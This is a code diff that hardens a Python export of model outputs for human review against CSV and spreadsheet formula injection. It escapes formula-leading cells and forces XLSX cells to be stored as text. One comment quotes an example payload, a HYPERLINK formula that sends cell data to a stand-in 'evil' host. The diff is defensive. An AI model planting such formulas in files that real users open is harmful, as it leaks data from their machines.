@@ -201,6 +201,17 @@ def read_key(run_dir: str | Path) -> dict[str, Any]:
     return json.loads(path.read_text(encoding="utf-8"))
 
 
+# A cell starting with one of these is a formula to a spreadsheet: a model output like
+# `=HYPERLINK("http://evil/?"&B2, "click")` would run on the reviewer's machine (CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def defuse(cell: str) -> str:
+    """A CSV cell a spreadsheet shows as text: a leading apostrophe (OWASP's advice), which
+    `unblind --import` takes off again."""
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
+
+
 def _write_csv(path: Path, table: list[list[str]]) -> None:
     import csv
 
@@ -208,7 +219,7 @@ def _write_csv(path: Path, table: list[list[str]]) -> None:
     with atomic_open(path, encoding="utf-8-sig") as f:
         writer = csv.writer(f, lineterminator="\r\n")
         writer.writerow(COLUMNS)
-        writer.writerows(table)
+        writer.writerows([[defuse(c) for c in row] for row in table])
 
 
 # Excel refuses a cell over this many characters; an output that long is cut with a marker.
@@ -239,6 +250,9 @@ def _write_xlsx(path: Path, table: list[list[str]]) -> None:
     for row in ws.iter_rows(min_row=2):
         for cell in row:
             cell.alignment = wrap
+            # openpyxl stores a string starting with "=" as a formula; every cell here is text.
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
     # A drop-down on the Preference column: a typo like "AA" is refused by Excel itself.
     choice = DataValidation(type="list", formula1='"A,B,tie,skip"', allow_blank=True)
     choice.error, choice.errorTitle = "Choose A, B, tie or skip", "Preference"
